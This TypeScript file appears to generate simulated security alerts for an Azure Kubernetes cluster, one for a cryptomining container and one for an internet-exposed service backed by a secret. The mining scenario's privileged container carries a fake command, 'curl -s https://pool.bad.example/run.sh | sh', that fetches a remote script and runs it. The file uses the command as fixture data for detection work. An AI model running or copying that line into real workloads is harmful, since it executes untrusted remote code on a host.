import type { EvidenceInput } from '../evidence';
import { azureResourceOf, graphOnly } from './parts';
import { digest, type Scene, type Story } from './scene';
import { services } from './services';

/** What runs in the customer's cluster, from the cluster down to the image. */
function workloadOf(scene: Scene) {
	const cluster = {
		kind: 'kubernetesCluster',
		name: 'aks-shop',
		platform: 'aks',
		version: '1.33.2',
		distribution: 'AKS',
		cloudResource: azureResourceOf(scene, 'Microsoft.ContainerService/managedClusters', 'aks-shop'),
	};
	const namespace = {
		kind: 'kubernetesNamespace',
		name: 'checkout',
		cluster,
		labels: { team: 'shop' },
	};
	const inNamespace = (kind: string, name: string): EvidenceInput => ({
		kind,
		name,
		namespace,
	});
	const registry = { kind: 'containerRegistry', registry: `registry.${scene.domain}` };
	const imageId = `registry.${scene.domain}/checkout@sha256:${digest('sha256', 'checkout')}`;
	const image = { kind: 'containerImage', imageId, registry };
	const controller = { ...inNamespace('kubernetesController', 'checkout'), type: 'Deployment' };
	const serviceAccount = inNamespace('kubernetesServiceAccount', 'checkout-runner');
	const container = {
		kind: 'container',
		name: 'checkout',
		containerId: digest('sha256', `${scene.tenantId} container`),
		image,
		isPrivileged: true,
		command: ['/bin/sh'],
		args: ['-c', 'curl -s https://pool.bad.example/run.sh | sh'],
	};
	const pod = {
		...inNamespace('kubernetesPod', 'checkout-7d9f8'),
		podIp: { ipAddress: '10.244.1.7' },
		labels: { app: 'checkout' },
		controller,
		serviceAccount,
		containers: [container],
	};
	return { cluster, namespace, registry, image, controller, serviceAccount, container, pod, inNamespace };
}

/** A container that digs for coins. */
export const coinMiner: Story = (scene) => {
	const { cluster, namespace, registry, image, controller, serviceAccount, container, pod } =
		workloadOf(scene);
	return graphOnly({
		...services.containers,
		title: 'Digital currency mining container detected',
		description: 'A container with an image that is known to mine was started in the cluster.',
		severity: 'high',
		category: 'Execution',
		mitreTechniques: ['T1496'],
		moreEvidence: [
			azureResourceOf(scene, 'Microsoft.ContainerService/managedClusters', 'aks-shop'),
			{ ...cluster, roles: ['attacked'] },
			namespace,
			pod,
			{ ...container, verdict: 'malicious' },
			{ ...image, verdict: 'malicious' },
			registry,
			controller,
			serviceAccount,
		],
	});
};

/** A service that everybody can reach, and a secret behind it. */
export const exposedService: Story = (scene) => {
	const { cluster, inNamespace } = workloadOf(scene);
	return graphOnly({
		...services.containers,
		title: 'Exposed Kubernetes service detected',
		description: 'A load balancer opened a service that reads a secret to the internet without a sign-in.',
		severity: 'low',
		category: 'InitialAccess',
		mitreTechniques: ['T1190'],
		moreEvidence: [
			cluster,
			{
				...inNamespace('kubernetesService', 'checkout-admin'),
				roles: ['created'],
				serviceType: 'loadBalancer',
				clusterIP: { ipAddress: '10.0.44.7' },
				externalIPs: [{ ipAddress: '198.51.100.80' }],
				labels: { app: 'checkout-admin' },
				selector: { app: 'checkout-admin' },
				servicePorts: [
					{
						name: 'http',
						port: 80,
						nodePort: 30_080,
						protocol: 'tcp',
						targetPort: '8080',
						appProtocol: null,
					},
				],
			},
			{ ...inNamespace('kubernetesSecret', 'checkout-database'), secretType: 'Opaque' },
		],
	});
};
